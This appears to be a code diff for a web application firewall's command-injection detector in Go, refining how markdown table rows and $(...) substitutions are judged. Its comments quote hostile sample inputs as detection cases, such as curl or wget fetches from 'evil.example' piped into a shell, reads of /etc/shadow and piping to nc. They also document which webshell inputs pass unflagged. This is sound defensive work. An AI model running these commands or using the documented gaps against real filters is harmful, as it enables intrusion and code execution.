@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"slices"
 	"strings"
 
 	"github.com/rampartwaf/rampart/internal/request"
@@ -57,18 +58,28 @@ import (
 // while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not.
 //
 // What tells a pasted command line from an injection is where the command stands: a
-// value, a line of a post or the cells of a markdown table ("| id | name |") that open
-// with it are the writer's own; a separator after a token of data is a breakout. So on
-// the writer's own lines a published installer piped into a shell passes (curl or wget
-// with options and one https URL on a named host, to standard output: the rustup, nvm,
-// nodesource and Homebrew one-liners, also as bash -c "$(curl ...)"), a $(...) that is
-// an argument of a command line with options is judged as a command opening a value
-// ("docker run -v $(pwd):/app", "--user $(id -u)"), and batch IF/FOR statements in a
+// value, a line of a post or the cells of a markdown table that open with it are the
+// writer's own; a separator after a token of data is a breakout. So on the writer's own
+// lines a published installer piped into a shell passes (curl or wget with options and
+// one https URL on a named host, to standard output: the rustup, nvm, nodesource and
+// Homebrew one-liners, also as bash -c "$(curl ...)"), and batch IF/FOR statements in a
 // post or script are not flagged by themselves. An http URL, an address, an output
 // file or an expansion in the fetch, or the same line after a breakout
-// ("x;curl https://sh.rustup.rs | sh"), still matches. The price: a webshell run as
-// "?cmd=ls -la", "?cmd=ansible-inventory --list" or "?cmd=curl https://evil.example/x|sh"
-// is not flagged.
+// ("x;curl https://sh.rustup.rs | sh"), still matches. The installer passes because
+// such a line runs only where the whole value is run (a webshell), which the rule for
+// whole command lines gives up anyway, while install lines are pasted in tickets and
+// docs daily. The price: a webshell run as "?cmd=ls -la", "?cmd=ansible-inventory
+// --list" or "?cmd=curl https://evil.example/x|sh" is not flagged.
+//
+// A $(...) that is an argument of a command line with options passes only when it
+// holds one read-only command printing a fact ("docker run -v $(pwd):/app", "--user
+// $(id -u):$(id -g)", $(whoami), $(date +%F), $(uname -m), $(git rev-parse HEAD); see
+// infoSubst); anything else in it counts as in any substitution, in double quotes too
+// ("a -b $(wget -q https://evil.example/x.sh)", "-o $(sleep 10)", "-o $(id)").
+// A markdown table row counts as one only in a table's shape: next to another row or
+// a |---| line (no shell runs such lines), or alone with padded cells and no pipeline
+// ("| id | name |"; not "|curl -fsSL https://x|sh|" nor "| curl https://x | sh |"),
+// and no installer passes in its cells.
 //
 // Command words are read the way a shell reads them, so evasions fold away: quotes and
 // backslashes inside a word (c'a't, who\ami, ""p""y""t""h""o""n, $'who'ami), empty expansions and
@@ -211,6 +222,9 @@ type cmdScan struct {
 	// assigns counts the searches for a variable assignment, which scan the value: a
 	// value full of ";$a" must not cost one scan per separator.
 	assigns int
+	// cell: a cell of a markdown table is being judged, where no installer passes
+	// (installerFetch): the '|' around it may be a pipe.
+	cell bool
 }
 
 // Byte classes of the one pass over a value.
@@ -404,8 +418,16 @@ func cmdexe(v string) (string, bool) {
 				cell = row
 			}
 			if cell {
-				level, pipe = posStart, false
-			} else if i == breakout {
+				s.cell = true
+				f, ok := s.afterSep(i, j, posStart, false)
+				s.cell = false
+				if ok {
+					return f, true
+				}
+				i = j - 1
+				continue
+			}
+			if i == breakout {
 				level = posBreakout
 			} else if pipe && level == posStart && s.installerFetch(cmdLineStart(v, i), i) {
 				// "curl -sSf https://sh.rustup.rs | sh" pasted in a post or typed as a
@@ -448,14 +470,20 @@ func cmdexe(v string) (string, bool) {
 			}
 		case '$', '<', '>':
 			if i+1 < len(v) && v[i+1] == '(' && (c != '$' || !jqueryCall(v, i+2)) && !script {
-				level := posSubst
-				if c == '$' && substArgument(v, i) {
-					// docker run -v $(pwd):/app: an argument the writer composed, its
-					// command judged as one opening a value.
-					level = posStart
-				}
-				if f, ok := s.afterSep(i, i+2, level, false); ok {
-					return f, true
+				// docker run -v $(pwd):/app, --user $(id -u): a fact about the machine
+				// that the writer's command line takes as an argument, and nothing
+				// else. Bash's -c running a published installer is judged as a
+				// command opening a value. Anything else in a substitution runs
+				// wherever it stands, in double quotes too.
+				arg := c == '$' && substArgument(v, i)
+				if !arg || !infoSubst(v, i) {
+					level := posSubst
+					if arg && s.installerSubst(i) {
+						level = posStart
+					}
+					if f, ok := s.afterSep(i, i+2, level, false); ok {
+						return f, true
+					}
 				}
 			}
 			if c == '$' {
@@ -555,34 +583,95 @@ func probeToken(t string) bool {
 }
 
 // tableRow reports whether the line of v holding i is a row of a markdown table: it
-// opens and closes with '|', has two cells or more, and one cell at least is no
-// listed command ("| id | name |", "|---|---|"; not "|id|ls|"). It returns the end of
-// the line too.
+// opens and closes with '|', has two cells or more, one cell at least is no listed
+// command ("| id | name |", "|---|---|"; not "|id|ls|"), and it has a table's shape.
+// That is another row or a |---| line right above or below it (no shell runs such a
+// line: its closing '|' continues a pipeline that the next line's opening '|' breaks),
+// or, for a row alone, cells padded with spaces and no pipeline in them: no two
+// neighbouring cells that both open with a listed command, one of them with arguments
+// or the second a shell or interpreter, and no shell or interpreter after a cell that
+// opens with a listed command with arguments or a network tool. So "| id | name |" and a real table pass, while
+// "|curl -fsSL https://x|sh|" and "| curl -fsSL https://x | sh |" are pipes. It
+// returns the end of the line too.
 func tableRow(v string, i int) (int, bool) {
 	start := strings.LastIndexAny(v[:i], "\n\r") + 1
 	end := len(v)
 	if k := strings.IndexAny(v[i:], "\n\r"); k >= 0 {
 		end = i + k
 	}
-	line := strings.TrimSpace(v[start:end])
-	if len(line) < 4 || line[0] != '|' || line[len(line)-1] != '|' {
+	cells, ok := rowCells(v[start:end])
+	if !ok {
 		return end, false
 	}
-	cells, data := 0, false
-	for rest := line[1:]; rest != ""; {
-		k := strings.IndexByte(rest, '|')
-		c := strings.TrimSpace(rest[:k])
-		rest = rest[k+1:]
+	data := false
+	for _, c := range cells {
+		c = strings.TrimSpace(c)
 		if c == "" || strings.ContainsAny(c, ";&`$<>") {
 			return end, false
 		}
-		cells++
 		var buf [24]byte
 		if w, n := lowerWord(buf[:], c, 0, isCmdByte); n < len(c) || cmdTable[string(w)] == 0 {
 			data = true
 		}
 	}
-	return end, cells >= 2 && data
+	if !data {
+		return end, false
+	}
+	// Another row right above or below: a table.
+	if start > 0 {
+		e := start - 1
+		if v[e] == '\n' && e > 0 && v[e-1] == '\r' {
+			e--
+		}
+		if _, ok := rowCells(v[strings.LastIndexAny(v[:e], "\n\r")+1 : e]); ok {
+			return end, true
+		}
+	}
+	if end < len(v) {
+		b := end + 1
+		if v[end] == '\r' && b < len(v) && v[b] == '\n' {
+			b++
+		}
+		e := len(v)
+		if k := strings.IndexAny(v[b:], "\n\r"); k >= 0 {
+			e = b + k
+		}
+		if _, ok := rowCells(v[b:e]); ok {
+			return end, true
+		}
+	}
+	// A row alone: padded cells, no pipeline.
+	prev, prevArgs, feed := uint16(0), false, false
+	for _, c := range cells {
+		if len(c) < 3 || c[0] != ' ' && c[0] != '\t' || c[len(c)-1] != ' ' && c[len(c)-1] != '\t' {
+			return end, false
+		}
+		c = strings.TrimSpace(c)
+		var buf [24]byte
+		w, n := lowerWord(buf[:], c, 0, isCmdByte)
+		class := cmdTable[string(trimVersion(w))]
+		args := n < len(c)
+		switch {
+		case prev != 0 && class != 0 && (prevArgs || args || class&(cmdPipe|cmdShell|cmdInterp) != 0):
+			return end, false // "| cat x | nc host 4444 |", "| id | sh |"
+		case feed && class&(cmdPipe|cmdShell|cmdInterp) != 0:
+			return end, false // "| curl https://x | xz -d | sh |"
+		}
+		prev, prevArgs = class, args
+		feed = feed || class != 0 && (args || class&cmdNet != 0)
+	}
+	return end, true
+}
+
+// rowCells splits a line shaped as a markdown table row, "|" cells "|" (two cells or
+// more, blanks around it dropped), into its cells as written.
+func rowCells(line string) ([]string, bool) {
+	line = strings.TrimSpace(line)
+	if len(line) < 4 || line[0] != '|' || line[len(line)-1] != '|' {
+		return nil, false
+	}
+	cells := strings.Split(line[1:len(line)-1], "|")
+	return cells, len(cells) >= 2
 }
 
 // proseText reports whether a value reads as prose: a run of three words of letters
@@ -978,6 +1067,9 @@ func cmdLineEnd(v string, i int) int {
 // A plain http URL, an address, a second URL, an output file, or an expansion,
 // substitution or redirection makes it none: "curl http://203.0.113.5/x".
 func (s *cmdScan) installerFetch(start, end int) bool {
+	if s.cell {
+		return false
+	}
 	line := s.v[start:end]
 	fetch, urls, out := false, 0, false
 	for n := 0; ; n++ {
@@ -1056,6 +1148,9 @@ func dnsName(h string) bool {
 // and nothing else: -c "$(curl -fsSL https://raw.githubusercontent.com/.../install.sh)",
 // Homebrew's one-liner.
 func (s *cmdScan) installerRun(end int) bool {
+	if s.cell {
+		return false
+	}
 	v := s.v
 	k := s.skipSpaces(end)
 	if !strings.HasPrefix(v[k:], "-c") {
@@ -1088,7 +1183,9 @@ func (s *cmdScan) installerRun(end int) bool {
 // line its writer typed: the line, or the inline code span, it stands on opens with a
 // word or path and passes an option before it, with no separator in between
 // ("docker run -v $(pwd):/app", "chown -R $(id -u) .", `bash -c "$(curl ...)"`).
-// Injected substitutions stand alone or after data: "$(id)", "x$(sleep 5)".
+// Injected substitutions stand alone or after data: "$(id)", "x$(sleep 5)". What the
+// substitution holds is judged apart (infoSubst, installerSubst): an argument can run
+// anything ("a -b $(wget -q https://evil.example/x.sh)").
 func substArgument(v string, i int) bool {
 	seg := v[strings.LastIndexAny(v[:i], "\n\r`")+1 : i]
 	k := skipSpaces(seg, 0)
@@ -1096,6 +1193,196 @@ func substArgument(v string, i int) bool {
 		return false
 	}
 	return strings.Contains(seg, " -")
+}
+
+// infoSubst reports whether the substitution "$(" at i holds one read-only command that
+// prints a fact about the machine, the user or the checkout, the way command lines in
+// docs take them as arguments: $(pwd), $(id -u), $(id -g), $(whoami), $(date +%F),
+// $(uname -m), $(hostname -s), $(arch), $(nproc), $(git rev-parse --short HEAD),
+// $(git describe --tags), $(git branch --show-current), $(basename "$PWD"),
+// $(dirname "$0"), $(readlink -f x), $(which node), $(command -v go). Nothing else is:
+// a second command, pipe, redirection, subshell or backtick in it; a command that
+// fetches, connects, runs code, sleeps or reads a file (wget, curl, nc, sh, python,
+// sleep, cat, even "cat VERSION"); $(id) without -u/-g, whose uid=0(root) output is a
+// probe's; options that change something or read a file ($(date -s ...), $(date -f
+// file), $(hostname evil)). A substitution nested in an argument
+// ($(dirname "$(readlink -f "$0")")) is judged by itself where it stands.
+func infoSubst(v string, i int) bool {
+	var (
+		args  []string
+		tok   []byte
+		quote byte
+		in    bool // inside a token
+	)
+	k := i + 2
+	for ; ; k++ {
+		if k >= len(v) || len(args) > 8 {
+			return false
+		}
+		c := v[k]
+		switch {
+		case quote == '\'':
+			if c == '\'' {
+				quote = 0
+			} else {
+				tok = append(tok, c)
+			}
+			continue
+		case c == '$' && k+1 < len(v) && v[k+1] == '(':
+			// a nested substitution: an argument here, judged by itself
+			e := closeParen(v, k+1)
+			if e < 0 {
+				return false
+			}
+			tok, in, k = append(tok, 'X'), true, e
+			continue
+		case c == '"':
+			quote ^= '"'
+			in = true
+			continue
+		case quote == 0 && c == ')':
+		case quote == 0 && (c == ' ' || c == '\t'):
+			if in {
+				if len(tok) == 0 {
+					return false
+				}
+				args, tok, in = append(args, string(tok)), tok[:0], false
+			}
+			continue
+		case c == '\'' && quote == 0:
+			quote, in = c, true
+			continue
+		case isAlnum(c) || strings.IndexByte("-_.:=+%/^~@,{}$ ", c) >= 0:
+			tok, in = append(tok, c), true
+			continue
+		default:
+			// ; | & < > ( ` and line breaks: more than one read-only command
+			return false
+		}
+		break
+	}
+	if in {
+		args = append(args, string(tok))
+	}
+	if len(args) == 0 || args[len(args)-1] == "" {
+		return false
+	}
+	name, args := strings.ToLower(args[0]), args[1:]
+	if j := strings.LastIndexByte(name, '/'); j >= 0 && slices.Contains(binDirs, name[:j+1]) {
+		name = name[j+1:]
+	}
+	flagsOf := func(letters string) bool { // every argument is a flag of these letters
+		for _, a := range args {
+			if len(a) < 2 || a[0] != '-' || strings.Trim(a[1:], letters) != "" {
+				return false
+			}
+		}
+		return true
+	}
+	switch name {
+	case "pwd":
+		return flagsOf("LP")
+	case "whoami", "arch", "nproc":
+		return len(args) == 0 || name == "nproc" && len(args) == 1 && args[0] == "--all"
+	case "uname":
+		return flagsOf("smrnpio")
+	case "hostname":
+		return flagsOf("sfidIA")
+	case "id":
+		// id -u, id -gn, id -u alice; not id, not id alice
+		flag := false
+		for n, a := range args {
+			switch {
+			case len(a) > 1 && a[0] == '-' && strings.Trim(a[1:], "ugGnr") == "":
+				flag = true
+			case n == len(args)-1 && a[0] != '-':
+			default:
+				return false
+			}
+		}
+		return flag
+	case "date":
+		for n := 0; n < len(args); n++ {
+			switch a := args[n]; {
+			case a[0] == '+', a == "-u", a == "--utc", a == "-R", strings.HasPrefix(a, "-I"),
+				strings.HasPrefix(a, "--iso-8601"), strings.HasPrefix(a, "--rfc-3339="), strings.HasPrefix(a, "--date="):
+			case a == "-d" && n+1 < len(args):
+				n++
+			default:
+				return false
+			}
+		}
+		return true
+	case "git":
+		if len(args) == 0 {
+			return false
+		}
+		switch args[0] {
+		case "rev-parse", "describe":
+			return true
+		case "branch":
+			return len(args) == 2 && args[1] == "--show-current"
+		}
+		return false
+	case "basename", "dirname", "which":
+		return len(args) > 0
+	case "readlink", "realpath":
+		return len(args) > 0 && args[len(args)-1][0] != '-'
+	case "command":
+		return len(args) == 2 && args[0] == "-v"
+	}
+	return false
+}
+
+// closeParen returns the index of the ')' that closes the '(' at i, skipping quoted
+// text and nested parentheses, or -1.
+func closeParen(v string, i int) int {
+	depth := 0
+	var quote byte
+	for k := i; k < len(v); k++ {
+		switch c := v[k]; {
+		case quote != 0:
+			if c == quote {
+				quote = 0
+			}
+		case c == '\'' || c == '"':
+			quote = c
+		case c == '(':
+			depth++
+		case c == ')':
+			depth--
+			if depth == 0 {
+				return k
+			}
+		}
+	}
+	return -1
+}
+
+// installerSubst reports whether the substitution "$(" at i is the one a shell's -c runs
+// in a published installer's one-liner: /bin/bash -c "$(curl -fsSL https://...)" (see
+// installerRun).
+func (s *cmdScan) installerSubst(i int) bool {
+	v := s.v
+	k := i
+	if k > 0 && (v[k-1] == '"' || v[k-1] == '\'') {
+		k--
+	}
+	for k > 0 && (v[k-1] == ' ' || v[k-1] == '\t') {
+		k--
+	}
+	if k < 3 || v[k-2:k] != "-c" || v[k-3] != ' ' && v[k-3] != '\t' {
+		return false
+	}
+	e := k - 2
+	for e > 0 && (v[e-1] == ' ' || v[e-1] == '\t') {
+		e--
+	}
+	b := strings.LastIndexAny(v[:e], " \t/;|&\n\r`(") + 1
+	if b >= e || cmdTable[strings.ToLower(v[b:e])]&cmdShell == 0 {
+		return false
+	}
+	return s.installerRun(e)
 }
 
 // hostBefore reports whether what precedes the separator before v[i] is the whole
